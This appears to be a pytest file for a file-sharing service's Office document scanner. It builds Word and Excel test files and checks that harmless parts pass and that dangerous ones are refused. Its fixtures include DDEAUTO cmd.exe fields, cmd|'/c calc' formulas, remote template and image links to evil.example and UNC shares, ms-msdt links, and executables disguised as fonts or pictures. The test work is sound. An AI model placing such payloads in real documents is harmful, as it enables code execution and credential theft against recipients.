"""Each part of a Word or Excel file is what its content says: what the programs put there is taken,
and what would run is not."""

import gzip
import struct
from uuid import UUID

import pytest

from sharing.vault.codes import Kind, Trouble
from sharing.vault.confined.found import Found
from sharing.vault.confined.recognise import recognise
from tests.attached import (
    PART,
    archive,
    compound,
    email,
    excel,
    office,
    old_word,
    pdf,
    picture,
    word,
)

XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship'
    ' Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"'
    ' Target="{}" TargetMode="External"/></Relationships>'
)
PROGRAM = b"MZ\x90\0" + b"\0" * 60
DRAWING = "<svg xmlns='http://www.w3.org/2000/svg'>{}</svg>"
ENHANCED = b"\x01\0\0\0" + b"\0" * 36 + b" EMF" + b"\0" * 40
PRINTER = "Printer".encode("utf-16-le").ljust(64, b"\0") + struct.pack("<4H", 0x401, 6, 220, 9)
PRINTER = PRINTER.ljust(229, b"\x07")
KEY = "{4B1F31F3-3A5B-4A3B-9A3C-2B3D5C6E7F80}"
FONT_LIST = (
    f"<w:fonts xmlns:w='w' xmlns:r='r'><w:embedRegular r:id='1' w:fontKey='{KEY}'/></w:fonts>"
)


def listed(name="word/fonts/font1.odttf", *, font=None, key=KEY, **more):
    """Return a letter that lists this font as its own."""
    relation = RELATION.replace(' TargetMode="External"', "").format("font", "fonts/font1.odttf")
    return word(
        {
            name: hidden(FONT) if font is None else font,
            "word/fontTable.xml": FONT_LIST.replace(KEY, key),
            "word/_rels/fontTable.xml.rels": relation.replace('"r1"', '"1"'),
        }
        | more
    )


def hidden(font):
    key = UUID(KEY).bytes[::-1] * 2
    return bytes(a ^ b for a, b in zip(font, key, strict=False)) + font[32:]


FONT = struct.pack(">4sH6x4s4xII", b"\0\1\0\0", 1, b"head", 28, 20) + b"font" * 5


def fields(*marks):
    """Return a letter with fields: b(egin), s(eparate), e(nd), or what an instruction says."""
    kinds = {"b": "begin", "s": "separate", "e": "end"}
    said = "".join(
        f"<w:r><w:fldChar w:fldCharType='{kinds[one]}'/></w:r>"
        if one in kinds
        else f"<w:r><w:instrText>{one}</w:instrText><w:t>x</w:t></w:r>"
        for one in marks
    )
    return letter(f"<w:p>{said}</w:p>")


def letter(said):
    marks = f"{XML}<w:document xmlns:w='w'><w:body>{said}</w:body></w:document>"
    return word({"word/document.xml": marks})


def related(kind, target):
    return word({"word/_rels/settings.xml.rels": RELATION.format(kind, target)})


def table(said):
    return excel(
        {"xl/externalLinks/externalLink1.xml": f"{XML}<externalLink>{said}</externalLink>"}
    )


MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DDE = f"<é:p xmlns:é='{MAIN}'><é:fldSimple é:instr='DDEAUTO c:\\\\cmd.exe'/></é:p>"
EXE = b"MZ" + bytes(range(256)) * 20


def disguised(begins):
    """Return the key under which a program begins like a font."""
    key = bytes(a ^ b for a, b in zip(EXE, begins, strict=False)).ljust(16, b"\1")[::-1].hex()
    return "{" + "-".join((key[:8], key[8:12], key[12:16], key[16:20], key[20:])) + "}"


def setting(content):
    """Return it with what a printer is set up by at the places where that stands."""
    size = struct.pack("<2s2xHH", b"\0\4", 220, len(content) - 220)
    return content[:64] + size + content[72:]


def drawn(mark):
    return word({"word/document.xml": f"<a xmlns:v='urn:schemas-microsoft-com:vml'>{mark}</a>"})


def tables(part, said):
    return excel({f"xl/{part}.xml": said})


TAKEN = {
    "pictures": word(
        {
            f"word/media/image.{form}": picture(form)
            for form in ("PNG", "JPEG", "GIF", "TIFF", "BMP")
        }
    ),
    "drawings": word(
        {
            "word/media/image1.emf": ENHANCED,
            "word/media/image2.emz": gzip.compress(ENHANCED),
            "docProps/thumbnail.wmf": b"\xd7\xcd\xc6\x9a" + b"\0" * 40,
            "word/media/image3.svg": DRAWING.format("<path d='M0 0'/>"),
        }
    ),
    "fonts": listed(),
    "a font as it is": word({"word/fonts/font1.ttf": FONT}),
    "a printer": excel({"xl/printerSettings/printerSettings1.bin": PRINTER}),
    "a printer of a Mac": excel(
        {
            "xl/printerSettings/printerSettings1.bin": XML + '<!DOCTYPE plist PUBLIC "-//Apple//DTD'
            ' PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>'
        }
    ),
    "notes": excel({"xl/customProperty1.bin": "Budget 7\0".encode("utf-16-le")}),
    "notes of Google": excel({"xl/metadata": b"\0\xc5\x16\xda\x01\x02"}),
    "what was taken out": word({"[trash]/0000.dat": b"\xff" * 4 + bytes(90)}),
    "what others keep": word({"customXml/item1.xml": f"{XML}<b:Sources xmlns:b='b' Name='2026'/>"}),
    "in two bytes": word({"customXml/item1.xml": f"{XML}<a/>".replace("8", "16").encode("utf-16")}),
    "a drawing of old": word({"word/vmlDrawing1.vml": "<xml><v:shadow on='t'><br></xml>"}),
    "a text": word({"word/afchunk.txt": "Two calls."}),
    "a page": word({"word/afchunk.htm": "<!DOCTYPE html><html><p>Two calls<br></html>"}),
    "a saved page": word(
        {"word/afchunk.mht": b"MIME-Version: 1.0\nContent-Type: text/html\n\n<p>"}
    ),
    "a saved page of many": word({"word/a.mht": email(html="<html><p>Two</html>").as_bytes()}),
    "an old table": word({"word/objects/old.bin": old_word()}),
    "a template": related("attachedTemplate", "file:///C:\\Users\\jo\\Letter%20to.dotx"),
    "a template beside it": related("attachedTemplate", "Normal.dotm"),
    "a template of a Mac": related("attachedTemplate", "file:///Users/jo/Letter.dotx"),
    "a link": related("hyperlink", "https://police.example/"),
    "a link to another program's": related("hyperlink", "tel:+441632960001"),
    "a picture of the writer's computer": related("image", "file:///C:/Users/jo/logo.png"),
    "numbers of pages": fields("b", " PAGE ", "s", "e"),
    "fields in fields": fields("b", " IF ", "b", " MERGEFIELD a ", "s", "e", "= 1", "s", "e"),
    "sums": fields("b", "=", "b", "PAGE", "e", "-1", "s", "b", " DATE ", "e", "e"),
    "a field's link": fields("b", ' HYPERLINK "https://police.example/" ', "s", "e"),
    "sums of a table": letter("<w:fldSimple w:instr=' =SUM(ABOVE) '/>"),
    "a formula": tables("worksheets/a", "<c><f>VLOOKUP(A1,'a|b'!A:B,2)&amp;\"|\"</f><v>1</v></c>"),
    "another book": excel(
        {"xl/_rels/a.xml.rels": RELATION.format("externalLinkPath", "2026.xlsx")}
    ),
    "rows that were asked": tables("connections", "<a><connection id='1' interval='0'/></a>"),
    "what is counted": tables(
        "p",
        "<pivotCacheDefinition refreshOnLoad='1'><cacheSource type='worksheet'/>"
        "</pivotCacheDefinition>",
    ),
    "an old picture": drawn("<v:imagedata src='' o='1'/><x:fill xmlns:x='x' src='http://a'/>"),
    "whom letters go to": letter("<w:query w:val='SELECT * FROM a'/>"),
    "types by endings": word(
        {"word/a.dat": "<a/>"}, types="<Default Extension='DAT' ContentType='application/xml'/>"
    ),
    "never closed": fields("b", " DATE "),
    "closed twice": fields("b", " DATE ", "e", "e", " DATE "),
    "an object": letter("<w:object w:on='1'/><w:fldSimple w:instr=' DATE '/>"),
}


@pytest.mark.parametrize("name", TAKEN)
def test_what_the_programs_put_there_is_taken(name):
    assert recognise(TAKEN[name]) in (Kind.WORD, Kind.EXCEL)


MACROS = word(types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')
REFUSED = {
    Trouble.HOLDS_FILES: {
        "a program": word({"word/payload/setup.exe": PROGRAM}),
        "a program as a picture": word({"word/media/image1.png": PROGRAM}),
        "a program as marks": word({"word/theme/theme1.xml": PROGRAM}),
        "a program as a font": word({"word/fonts/font1.odttf": PROGRAM}),
        "a program as a note": excel({"xl/customProperty1.bin": PROGRAM}),
        "a program as Google's": excel({"xl/metadata": PROGRAM}),
        "a program for a printer": excel({"xl/printerSettings/p.bin": PRINTER + PROGRAM}),
        "a packed program": word({"word/media/image1.emz": gzip.compress(ENHANCED) + PROGRAM}),
        "a program that was packed": word({"word/media/image1.emz": gzip.compress(PROGRAM)}),
        "a page as text": word({"word/a.txt": "<html>Two calls."}),
        "no saved page either": word({"word/a.mht": "Two calls."}),
        "too little for a printer": excel({"xl/printerSettings/a.bin": b"\1" * 9}),
        "too little for a font": listed(font=hidden(b"OTTO")),
        "a program listed as a font": listed(font=EXE, key=disguised(b"OTTO")),
        "a program as a font of another's key": word(
            {"word/payload/setup.odttf": EXE, "word/fontTable.xml": FONT_LIST}
        ),
        "a font that is not listed": word({"word/fonts/font1.odttf": hidden(FONT)}),
        "a font under another name": listed("word/fonts/font2.odttf"),
        "no font behind how it begins": listed(font=hidden(b"OTTO" + b"\0\1" + b"x" * 60)),
        "a font with no tables": listed(font=hidden(b"OTTO" + bytes(60))),
        "a font of more than it is": listed(font=hidden(b"OTTO" + b"\0\x20" + b"x" * 60)),
        "a program as a printer": excel({"xl/printerSettings/a.bin": setting(EXE)}),
        "no name of a printer": excel({"xl/printerSettings/a.bin": setting(b"\1\0" * 300)}),
        "a printer of another name": word(
            {"word/p.exe": PRINTER},
            types='<Override PartName="/word/p.exe" ContentType="application/vnd.openxmlformats-'
            'officedocument.wordprocessingml.printerSettings"/>',
        ),
        "a script": word({"word/payload/run.vbs": 'CreateObject("WScript.Shell")'}),
        "a part of no type": word({"word/payload/a": "Two calls."}),
        "an archive": word({"word/objects/a.zip": archive({"setup.exe": PROGRAM})}),
        "slides": word({"word/objects/a.bin": office("presentationml.presentation")}),
        "a package": word({"word/objects/a.bin": compound({"\x01Ole10Native": PROGRAM})}),
        "a PDF": word({"word/media/image1.pdf": pdf()}),
        "rich text": word({"word/afchunk.rtf": r"{\rtf1 \objdata Hello}"}),
        "a page behind text": word({"word/afchunk.htm": "Hello <script>alert(1)</script>"}),
        "no saved page": word({"word/a.mht": b"MIME-Version: 1.0\n\n" + PROGRAM}),
        "headers of nothing": word({"word/a.mht": b"A: b\n\n" + PROGRAM}),
        "a file in a saved page": word(
            {"word/a.mht": email().as_bytes().replace(b"text/plain", b"application/x-exe")}
        ),
    },
    Trouble.MACROS: {
        "an old drawing that runs": word({"word/a.vml": "<xml><script>x()</script></xml>"}),
        "what comes from a shop": word(
            {"word/a.xml": "<a/>"},
            types=PART.format("a", "application/vnd.ms-office.webextension+xml"),
        ),
        "a letter with macros": word({"word/objects/inner.docx": MACROS}),
        "script in a drawing": word({"word/media/a.svg": DRAWING.format("<script/>")}),
        "a drawing that runs": word({"word/media/a.svg": DRAWING.format("<g onload='x()'/>")}),
        "script in a page": word({"word/afchunk.htm": "<p>Hello<br><SCRIPT>alert(1)</p>"}),
        "script in a saved page": word(
            {"word/a.mht": b"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>x()</script>"}
        ),
        "script in marks": word({"customXml/item1.xml": f"{XML}<x:script xmlns:x='x'/>"}),
    },
    Trouble.TWO_IN_ONE: {
        "a picture and a program": word({"word/media/a.png": picture() + archive({"a": PROGRAM})}),
        "a picture and others": word({"word/media/a.bmp": picture("BMP") + archive({"a": "b"})}),
        "a text and others": word({"word/a.txt": b"Hello" + archive({"a": "b"})}),
    },
    Trouble.FETCHES: {
        "under another name": word({"word/document.xml": DDE}),
        "under another name in two bytes": word({"word/document.xml": DDE.encode("utf-16")}),
        "a table's under another name": tables("a", "<é:ddeLink xmlns:é='x' ddeService='cmd'/>"),
        "a picture of a page": related("image", "https://police.example/logo.png"),
        "a picture of a share": related("image", "file://///evil.example/share/seen.png"),
        "above the root": related("attachedTemplate", "file:///c:/../../evil.example/t.dotm"),
        "this computer and another": related(
            "attachedTemplate", "file://localhost//evil.example/t"
        ),
        "another program": related("attachedTemplate", "ms-word:ofe|u|http://evil.example/t.dotm"),
        "a link to a program": related("hyperlink", "ms-msdt:/id PCWDiagnostic"),
        "letters to many": related("mailMergeSource", "file:///\\\\evil.example\\x.csv"),
        "whom letters go to": letter("<w:connectString w:val='Data Source=\\\\evil.example\\x'/>"),
        "how it is written anew": related("transform", "http://evil.example/x.xsl"),
        "a field's picture": fields("b", " INCLUDEPICTURE 'http://evil.example/a' ", "s", "e"),
        "a field's text": letter("<w:fldSimple w:instr='INCLUDETEXT a'/>"),
        "a field's link": fields("b", ' HYPERLINK \\l "ms-msdt:/id" ', "s", "e"),
        "an old picture": drawn("<v:shape><v:imagedata src='http://evil.example/a'/></v:shape>"),
        "another book": excel(
            {
                "xl/_rels/a.xml.rels": RELATION.format(
                    "externalLinkPath", "file:///\\\\evil.example\\a"
                )
            }
        ),
        "a formula": tables("worksheets/a", "<c><f>1+_xlfn.WEBSERVICE(A1)</f></c>"),
        "a long formula": tables("worksheets/a", f"<c><f>{' ' * 9000}WEBSERVICE(A1)</f></c>"),
        "a formula that asks a program": tables("a", "<f>cmd|'/c calc'!A0</f>"),
        "rows of a server": tables("connections", "<a><connection refreshOnLoad='1'/></a>"),
        "rows of a server each minute": tables("connections", "<connection interval='1'/>"),
        "rows of a table": tables("q", "<queryTable refreshOnLoad='true'/>"),
        "what is counted of a server": tables(
            "p",
            "<pivotCacheDefinition refreshOnLoad='1'><cacheSource type='external'/>"
            "</pivotCacheDefinition>",
        ),
        "a template": related("attachedTemplate", "http://evil.example/t.dotm"),
        "a template of a server": related("attachedTemplate", "\\\\evil.example\\t.dotm"),
        "another": related("attachedTemplate", "file://///evil.example/t.dotm"),
        "a third": related("attachedTemplate", "file:///%5C%5Cevil.example%5Ct.dotm"),
        "a fourth": related("attachedTemplate", "file://evil.example/t.dotm"),
        "an object": related("oleObject", "https://evil.example/t!"),
        "a frame": related("frame", "https://evil.example/"),
        "a field": fields("b", " DDE", "AUTO c:\\\\cmd.exe", "s", "e"),
        "a field never closed": fields("b", '"DDE" a b'),
        "a field alone": fields("DDEAUTO c:\\\\cmd.exe"),
        "a field in what another says": fields("b", " DATE ", "s", " DDE a b", "e"),
        "a simple field": letter("<w:fldSimple w:instr='&#68;DEAUTO c'/>"),
        "put together": fields("b", " ", "b", "QUOTE 68 68 69", "s", "e", "s", "e"),
        "half of it": fields("b", " DD", "b", "QUOTE 69", "s", "e", " x", "s", "e"),
        "in two bytes": word(
            {"word/document.xml": f"{XML.replace('UTF-8', 'UTF-16')}<ddeLink/>".encode("utf-16-le")}
        ),
        "a table's": table("<ddeLink ddeService='cmd' ddeTopic='/c calc'/>"),
        "a table's object": table("<oleLink/>"),
    },
    Trouble.UNREADABLE: {
        "what stands for more": word({"word/document.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}),
        "written as nobody writes": word(
            {"word/document.xml": "<?xml version='1.0' encoding='cp037'?><a/>"}
        ),
        "not well formed": word({"word/document.xml": "<w:p><w:instrText>DDEAUTO c</w:p>"}),
        "a font under no key": listed(key="{Hello}"),
        "a part with two types": word(
            {"word/a.xml": "<a/>"},
            types='<Override PartName="/word/A.xml" ContentType="text/plain"/>',
        ),
        "two parts with one name": word({"word/a.xml": "<a/>", "word/%61.xml": "<a/>"}),
        "relations that break": word({"word/_rels/a.rels": "<r><a></r>"}),
    },
}


@pytest.mark.parametrize(
    ("trouble", "name"), [(trouble, name) for trouble in REFUSED for name in REFUSED[trouble]]
)
def test_what_would_run_or_hide_is_not(trouble, name):
    with pytest.raises(Found) as found:
        recognise(REFUSED[trouble][name])
    assert found.value.trouble is trouble
